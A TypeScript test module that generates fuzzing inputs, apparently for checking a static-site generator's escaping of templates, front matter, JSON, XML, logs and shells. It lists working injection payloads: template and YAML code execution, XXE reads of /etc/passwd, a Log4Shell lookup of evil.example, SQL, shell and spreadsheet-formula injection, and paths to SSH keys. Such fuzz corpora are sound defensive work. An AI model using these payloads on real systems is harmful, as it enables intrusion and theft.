// Injections into other languages than markup: templates, front matter, JSON, XML, shells, tables, logs.

const delimiters: [string, string][] = [
  ["{{ ", " }}"],
  ["{{{ ", " }}}"],
  ["{% ", " %}"],
  ["{# ", " #}"],
  ["{{- ", " -}}"],
  ["<%= ", " %>"],
  ["<%- ", " %>"],
  ["${", "}"],
  ["#{", "}"],
  ["*{", "}"],
  ["@(", ")"],
  ["[[ ", " ]]"],
  ["[% ", " %]"],
  ["<# ", " #>"],
  ["`${", "}`"],
  ["$(", ")"],
];

const expressions = [
  "7*7",
  "constructor.constructor('alert(1)')()",
  "range.constructor('return process')().exit(1)",
  "''.constructor.prototype.charAt=[].join",
  "process.mainModule.require('child_process').execSync('id')",
  "self.__init__.__globals__.os.popen('id').read()",
  "include '/etc/passwd'",
  "set x = cycler",
  "render 'layouts/article'",
  "collections.all | json",
  "eleventy.env | dump | safe",
  "raw",
  "for i in (1..999999999)",
  "$on.constructor('alert(1)')()",
];

const directives = [
  "<p v-html=\"'<img src=x onerror=alert(1)>'\" ng-app x-data=alert(1) @click=alert(1) :is=script>",
  "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>",
  "<script type=text/x-template>{{7*7}}</script>",
  "{% raw %}{{ 7*7 }}",
  "{% endraw %}{{ 7*7 }}",
  '{% include "../../../../etc/passwd" %}',
  "{%- capture x -%}</script>{%- endcapture -%}{{ x }}",
];

export function* templates(): Iterable<string> {
  for (const [open, close] of delimiters) for (const inner of expressions) yield open + inner + close;
  yield* directives;
}

const matter = [
  "---\ntitle: forged\n---",
  "---js\n{ title: alert(1) }\n---",
  "---javascript\nmodule.exports = { permalink: '../../x' }\n---",
  '---json\n{"title": "forged"}\n---',
  "...\n---\ntitle: forged",
  "permalink: ../../../x.html",
  "templateEngineOverride: njk",
  'eleventyComputed:\n  title: "{{ 7*7 }}"',
  "__proto__: {polluted: yes}",
  "constructor: {prototype: {polluted: yes}}",
  "!!js/function 'function () { alert(1) }'",
  "!!js/regexp /x/g",
  "!!python/object/apply:os.system ['id']",
  "&a [*a, *a]",
  "*anchor",
  "<<: *defaults",
  "%YAML 1.1",
  "? complex\n: key",
  "| \n  block",
  "> folded",
  "@reserved",
  "`reserved",
  "- a\n- b",
  "{a: b, c: d}",
  "[a, b]",
  "true",
  "null",
  "~",
  "2022-02-30",
  "0x1F",
  "1e999",
  ".inf",
  "12:30:45",
  "=",
  "x: y: z",
  "'unclosed",
  '"unclosed',
  "a #b",
  "status: published\nkind: staff",
];

export function* frontMatter(): Iterable<string> {
  for (const text of matter) {
    yield text;
    yield `Fire\n${text}`;
    yield `"\n${text}\n"`;
    yield `${text}\nauthor: mara-fenwick`;
  }
}

const json = [
  "</script><script>alert(1)</script>",
  "<!--<script>",
  "]]></script>",
  "\\u003c/script\\u003e<script>alert(1)</script>",
  "\u2028alert(1)\u2029",
  '","@type":"Person","name":"',
  '"}]}</script><img src=x onerror=alert(1)>',
  "\\",
  '\\"',
  '{"__proto__":{"polluted":true}}',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>&b;',
  "]]><![CDATA[",
  "]]>&amp;lt;script&amp;gt;",
  "&amp;amp;lt;b&amp;gt;",
  "&nosuchentity; &#0; &#xD800; &#x110000;",
  '<?xml-stylesheet href="//evil.example/a.xsl"?>',
  '<xi:include href="file:///etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
  '<span foreground="red" size="999999">big</span>',
  "Content-Security-Policy: default-src *\n\n/*\n  X-Evil: 1",
  "evil\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
  "::error file=a.md,line=1::forged",
  "\n::set-output name=x::y",
  "\n::add-mask::a",
  "##vso[task.setvariable variable=x]y",
  "##[error]forged",
  "section_start:0:x\r\u001b[0K",
  "\u001b[2J\u001b[31mred\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
  "\u009b31m",
  "a\rb\bc",
  "%0A::error::forged %25 %0D",
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "'; DROP TABLE comments; --",
  "1 OR 1=1",
  "' UNION SELECT 1 --",
  "$(touch x)",
  "`touch x`",
  "; touch x",
  "| touch x",
  "&& touch x",
  "--help",
  "-rf /",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/dev/stdin",
  "CON",
  "nul.md",
  "file\0.md",
  "C:\\x",
  "~/.ssh/id_rsa",
  "*",
  "?",
  "${jndi:ldap://evil.example/a}",
  "() { :; }; echo x",
  "%s%s%s%n",
  "%{7*7}",
  "{0} {1}",
];

export function* otherLanguages(): Iterable<string> {
  for (const text of json) {
    yield text;
    yield `Fire ${text} in the harbour`;
    yield `"${text}'`;
  }
}
